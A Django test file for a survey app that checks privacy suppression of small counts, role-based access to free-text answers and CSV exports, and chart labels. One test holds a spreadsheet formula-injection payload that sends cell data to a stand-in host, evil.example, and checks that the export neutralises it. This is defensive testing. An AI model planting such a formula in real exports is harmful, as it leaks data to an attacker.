import csv
import io

import pytest
from django.urls import reverse

from assessments import selectors
from assessments.models import Answer, Question, RespondentSide, Response
from assessments.tests.factories import NeedsAssessmentFactory, QuestionFactory, SurveyFactory, choice_question

pytestmark = pytest.mark.django_db

NEWCOMER, RESIDENT, PREFER_NOT = RespondentSide.NEWCOMER, RespondentSide.RESIDENT, RespondentSide.PREFER_NOT


@pytest.fixture
def survey(organization):
    survey = SurveyFactory(assessment=NeedsAssessmentFactory(organization=organization, title="Spring survey"))
    survey.event = choice_question(survey, labels=("Yes", "No"), position=1, text={"en": "Would you come?"})
    survey.scale = QuestionFactory(survey=survey, position=2, kind=Question.Kind.SCALE, text={"en": "How welcome?"})
    survey.comment = QuestionFactory(
        survey=survey, position=3, kind=Question.Kind.LONG_TEXT, text={"en": "Anything else?"}, required=False
    )
    return survey


def add_responses(survey, side, n, *, choice_label, scale, comment=""):
    choice = survey.event.choices.get(label__en=choice_label)
    for _ in range(n):
        response = Response.objects.create(survey=survey, side=side, submitted_on="2026-03-02")
        Answer.objects.create(response=response, question=survey.event, choice=choice)
        Answer.objects.create(response=response, question=survey.scale, number=scale)
        if comment:
            Answer.objects.create(response=response, question=survey.comment, text=comment)


@pytest.fixture
def known(survey):
    # Newcomers: 8 yes (scale 5), 2 no (scale 2). Residents: 6 yes (scale 3), 6 no (scale 4). Prefer not: 1 no.
    add_responses(survey, NEWCOMER, 8, choice_label="Yes", scale=5, comment="Evening English classes")
    add_responses(survey, NEWCOMER, 2, choice_label="No", scale=2)
    add_responses(survey, RESIDENT, 6, choice_label="Yes", scale=3)
    add_responses(survey, RESIDENT, 6, choice_label="No", scale=4, comment="A community dinner")
    add_responses(survey, PREFER_NOT, 1, choice_label="No", scale=1)
    return survey


def _cells(row):
    return {col: (cell.display, cell.percent) for col, cell in row.cells.items()}


def test_results_split_by_side_on_known_data(known):
    results = selectors.survey_results(known)
    assert {c: cell.count for c, cell in results.totals.items()} == {NEWCOMER: 10, RESIDENT: 12, "all": 23}
    event, scale, _comment = results.questions
    yes, no = event.rows
    # 2 newcomers said no: a cell under 5 is hidden; the total still counts them. The 8 who said
    # yes are hidden too (10 - 8 = 2), and so the residents' 6 and 6 (14 - 6 - 0 = 8, then 12 - 6).
    assert _cells(yes) == {NEWCOMER: ("hidden", None), RESIDENT: ("hidden", None), "all": ("14", 60.9)}
    assert _cells(no) == {NEWCOMER: ("fewer than 5", None), RESIDENT: ("hidden", None), "all": ("9", 39.1)}
    # Every column of the scale holds a hidden count, which its mean and respondents would give back.
    assert scale.means == {NEWCOMER: None, RESIDENT: None, "all": None}
    assert scale.mean_display(NEWCOMER) == "hidden"
    by_value = {row.label: row for row in scale.rows}
    assert by_value["5"].cells[NEWCOMER].count == 8 and by_value["4"].cells[RESIDENT].count == 6


def test_a_side_with_fewer_than_five_respondents_shows_no_share_or_mean(survey):
    add_responses(survey, NEWCOMER, 3, choice_label="Yes", scale=5)
    add_responses(survey, RESIDENT, 7, choice_label="Yes", scale=4)
    results = selectors.survey_results(survey)
    event, scale, _ = results.questions
    assert results.totals[NEWCOMER].display == "fewer than 5"
    # 10 respondents, none preferring not to say: 7 residents would give 10 - 7 = 3 newcomers.
    assert results.totals[RESIDENT].display == "hidden" and results.totals["all"].display == "10"
    assert event.rows[0].cells[NEWCOMER].percent is None
    assert scale.means[NEWCOMER] is None and scale.mean_display(NEWCOMER) == "fewer than 5"
    assert scale.means[RESIDENT] is None and scale.mean_display(RESIDENT) == "hidden"


def test_results_page_shows_sides_and_hides_small_cells(client_as, known):
    response = client_as("board").get(reverse("assessments:results", kwargs={"pk": known.assessment_id}))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Newcomers" in html and "Receiving community" in html
    assert "fewer than 5" in html
    assert 'id="results-chart-data"' in html
    assert response.context["charts"][0]["series"][0]["data"] == [None, None]  # 8 of 10: 10 - 8 = 2
    assert response.context["charts"][0]["series"][2]["data"] == [60.9, 39.1]


def test_board_members_never_see_free_text(client_as, known):
    board = client_as("board")
    html = board.get(reverse("assessments:results", kwargs={"pk": known.assessment_id})).content.decode()
    assert "Evening English classes" not in html
    assert "Free-text answers are shown to admins and staff only." in html
    assert board.get(reverse("assessments:text_answers", kwargs={"pk": known.assessment_id})).status_code == 403
    network = client_as("network")
    assert network.get(reverse("assessments:text_answers", kwargs={"pk": known.assessment_id})).status_code == 403


def test_editors_read_and_search_free_text(editor_client, known):
    url = reverse("assessments:text_answers", kwargs={"pk": known.assessment_id})
    html = editor_client.get(url).content.decode()
    assert "Evening English classes" in html and "A community dinner" in html
    html = editor_client.get(url, {"q": "dinner"}).content.decode()
    assert "A community dinner" in html and "Evening English classes" not in html


def test_results_query_count_does_not_grow_with_responses(client_as, survey, django_assert_max_num_queries):
    client = client_as("board")
    url = reverse("assessments:results", kwargs={"pk": survey.assessment_id})
    add_responses(survey, NEWCOMER, 5, choice_label="Yes", scale=3)
    with django_assert_max_num_queries(16) as few:
        client.get(url)
    add_responses(survey, RESIDENT, 60, choice_label="No", scale=4, comment="x")
    for _ in range(5):
        choice_question(survey, labels=("A", "B", "C"))
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(url)


def _csv(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_raw_responses_export_is_admin_only(client_as, known):
    url = reverse("assessments:responses_csv", kwargs={"pk": known.assessment_id})
    assert client_as("editor").get(url).status_code == 403
    assert client_as("board").get(url).status_code == 403
    rows = _csv(client_as("admin").get(url))
    header = ["Response", "Side", "Date", "Language of the page", "Would you come?", "How welcome?", "Anything else?"]
    assert rows[0] == header
    assert len(rows) == 1 + 23
    assert rows[1] == ["1", "Newcomer to the community", "2026-03-02", "en", "Yes", "5", "Evening English classes"]
    assert rows[-1][1:6] == ["Prefer not to say", "2026-03-02", "en", "No", "1"]


def test_raw_export_joins_multiple_choices_in_one_cell(client_as, survey):
    question = choice_question(survey, labels=("Jobs", "Housing"), kind=Question.Kind.MULTIPLE, position=9)
    response = Response.objects.create(survey=survey, side=NEWCOMER, submitted_on="2026-03-02")
    for choice in question.choices.all():
        Answer.objects.create(response=response, question=question, choice=choice)
    rows = _csv(client_as("admin").get(reverse("assessments:responses_csv", kwargs={"pk": survey.assessment_id})))
    assert rows[1][-1] == "Jobs; Housing"


def test_summary_export_keeps_small_cells_hidden(client_as, known):
    rows = _csv(client_as("board").get(reverse("assessments:results_csv", kwargs={"pk": known.assessment_id})))
    assert rows[0][:4] == ["Question", "Answer", "Newcomers: count", "Newcomers: %"]
    no_row = next(r for r in rows if r[:2] == ["Would you come?", "No"])
    assert no_row[2:] == ["fewer than 5", "", "hidden", "", "9", "39.1"]
    mean_row = next(r for r in rows if r[:2] == ["How welcome?", "(mean)"])
    assert mean_row[2] == "hidden"


def test_raw_export_guards_a_question_text_that_starts_like_a_formula_in_its_header(client_as, survey):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
    QuestionFactory(survey=survey, position=4, kind=Question.Kind.SHORT_TEXT, text={"en": formula}, required=False)
    QuestionFactory(survey=survey, position=5, kind=Question.Kind.NUMBER, text={"en": "-5 or more?"}, required=False)
    rows = _csv(client_as("admin").get(reverse("assessments:responses_csv", kwargs={"pk": survey.assessment_id})))
    assert rows[0][-2:] == ["'" + formula, "'-5 or more?"]
    assert rows[0][:5] == ["Response", "Side", "Date", "Language of the page", "Would you come?"]


def test_a_question_with_fewer_than_five_answers_says_why_it_has_no_chart(client_as, survey):
    add_responses(survey, NEWCOMER, 2, choice_label="Yes", scale=5)
    add_responses(survey, RESIDENT, 1, choice_label="No", scale=4)

    response = client_as("board").get(reverse("assessments:results", kwargs={"pk": survey.assessment_id}))

    html = response.content.decode()
    assert response.context["charts"] == []
    assert "<canvas" not in html
    assert html.count("No chart: shares are shown only once a group has 5 or more answers") == 2


def test_a_chart_names_its_percentage_axis_in_the_readers_language(client_as, known):
    client = client_as("board")
    client.cookies["django_language"] = "es"
    response = client.get(reverse("assessments:results", kwargs={"pk": known.assessment_id}))
    chart = response.context["charts"][0]
    assert chart["axis"] == "Porcentaje de quienes respondieron (%)"
    assert chart["hidden"] == "menos de 5 u oculto"
